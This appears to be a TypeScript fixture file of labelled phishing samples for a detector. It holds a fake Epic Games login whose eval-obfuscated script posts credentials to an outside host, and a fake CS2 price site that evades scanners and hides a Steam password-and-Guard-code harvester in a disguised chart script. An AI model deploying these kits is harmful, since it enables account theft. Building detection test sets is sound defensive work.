import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { STEAM_CSS, b64, charCodes, discordMark, doc, epicMark, rev, steamMark, xorB64 } from '../parts/yc-kit.js';

export const entries: Entry[] = [
(() => {
  const form = `<div style="max-width:460px;margin:60px auto;background:#202020;border-radius:8px;padding:36px 40px;color:#fff;font-family:Arial,sans-serif">
<div style="text-align:center">${epicMark(52)}</div><h2 style="text-align:center">Sign in with Epic Games</h2>
<p style="text-align:center;color:#aaa;font-size:14px">Your account was signed in from a new device. To keep your Fortnite locker and V-Bucks, confirm your account.</p>
<form id="ef"><input name="email" type="email" placeholder="Email Address" required style="width:100%;height:46px;background:#121212;border:1px solid #3a3a3a;border-radius:4px;color:#fff;padding:0 12px;margin:8px 0">
<input name="password" type="password" placeholder="Password" required style="width:100%;height:46px;background:#121212;border:1px solid #3a3a3a;border-radius:4px;color:#fff;padding:0 12px;margin:8px 0">
<button style="width:100%;height:50px;background:#0078f2;border:0;border-radius:4px;color:#fff;font-weight:700;margin-top:12px">LOG IN NOW</button></form></div>`;
  const logic = `document.getElementById('ef').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('src','fn-locker');fetch('https://fn-acc-verify.pro/gate/c.php',{method:'POST',mode:'no-cors',body:d}).finally(function(){location='https://www.epicgames.com/account/personal'})};`;
  return {
    id: 'yc-epic-locker-charcode-eval',
    label: 'phishing',
    kind: 'obfuscated-kit',
    url: 'https://fortnite-locker-secure.com/account/confirm',
    body: `<!doctype html><html><head><meta charset="utf-8"><title>Epic Games</title><style>body{margin:0;background:#121212}</style></head><body>
<div id="app"></div>
<script>(function(q,w){var z=function(a){return String.fromCharCode.apply(null,a)};var h=[${charCodes(form)}];var s="${rev(b64(logic))}";document.getElementById(q).innerHTML=z(h);w[z([101,118,97,108])](w[z([97,116,111,98])](s.split("").reverse().join("")))})("app",window);</script>
</body></html>`,
  } satisfies Entry;
})(),
(() => {
  const kit = `document.title='Sign In';document.body.innerHTML='<div style="background:#181a21;max-width:420px;margin:70px auto;padding:30px;border-radius:4px;font-family:Arial;color:#fff"><h2>Sign in</h2><p style="color:#8f98a0;font-size:13px">Sign in through Steam to sync your inventory prices.</p><form id="k" method="post" action="/sync/inv"><input name="u" placeholder="Steam account name" style="width:100%;height:40px;margin:8px 0;background:#32353c;border:0;color:#fff;padding:0 10px"><input name="p" type="password" placeholder="Password" style="width:100%;height:40px;margin:8px 0;background:#32353c;border:0;color:#fff;padding:0 10px"><input name="g" placeholder="Steam Guard code" style="width:100%;height:40px;margin:8px 0;background:#32353c;border:0;color:#fff;padding:0 10px"><button style="width:100%;height:44px;background:#1a9fff;border:0;color:#fff">Sign in</button></form></div>';`;
  return {
    id: 'yc-cs2-price-tracker-cloaked-steam',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://cs2-market-prices.com/inventory?ref=dc_4471',
    body: doc({
      title: 'CS2 Market Prices — inventory value tracker',
      css: `body{margin:0;background:#10141a;color:#d8dee9;font-family:Inter,Arial,sans-serif}header{padding:18px 30px;border-bottom:1px solid #222a35;font-weight:700}main{max-width:880px;margin:30px auto;padding:0 16px}table{width:100%;border-collapse:collapse}td,th{padding:8px;border-bottom:1px solid #222a35;text-align:left;font-size:14px}.up{color:#5fd35f}.dn{color:#ef6b6b}`,
      body: `<header>CS2 Market Prices</header><main><h1>Top movers today</h1><table><tr><th>Item</th><th>Price</th><th>24h</th></tr>
<tr><td>Kilowatt Case</td><td>$0.89</td><td class="up">+4.1%</td></tr><tr><td>AK-47 | Redline (FT)</td><td>$24.10</td><td class="dn">-1.2%</td></tr><tr><td>AWP | Asiimov (BS)</td><td>$71.44</td><td class="up">+0.7%</td></tr><tr><td>Sticker | Vitality (Holo) | Copenhagen 2024</td><td>$3.02</td><td class="up">+12.9%</td></tr></table>
<p style="color:#7c8696;font-size:13px">Prices are refreshed every 15 minutes from public marketplace listings.</p></main>
<script>
(function(){
var ua=navigator.userAgent.toLowerCase(),bad=['bot','crawl','spider','headless','lighthouse','python','curl','scan','preview','urlscan','virustotal'];
for(var i=0;i<bad.length;i++){if(ua.indexOf(bad[i])>-1)return}
if(navigator.webdriver||!navigator.languages||navigator.languages.length===0)return;
if(screen.width<400||window.outerWidth===0)return;
if(!/ref=dc_|ref=tg_/.test(location.search)&&document.cookie.indexOf('seen=1')<0)return;
document.cookie='seen=1;path=/;max-age=86400';
var s=document.createElement('script');s.src='/static/js/chart.bundle.min.js?v=3.9.1';document.head.appendChild(s);
})();
</script>`,
    }),
    routes: {
      'cs2-market-prices.com/static/js/chart.bundle.min.js': jsRoute(`/*! chart bundle v3.9.1 */!function(){var k=${JSON.stringify(xorB64(kit, 23))},b=atob(k),o='';for(var i=0;i<b.length;i++)o+=String.fromCharCode(b.charCodeAt(i)^23);(0,eval)(decodeURIComponent(escape(o)))}();`),
      'cs2-market-prices.com/sync/inv': jsonRoute({ ok: true }),
    },
  } satisfies Entry;
})(),
];
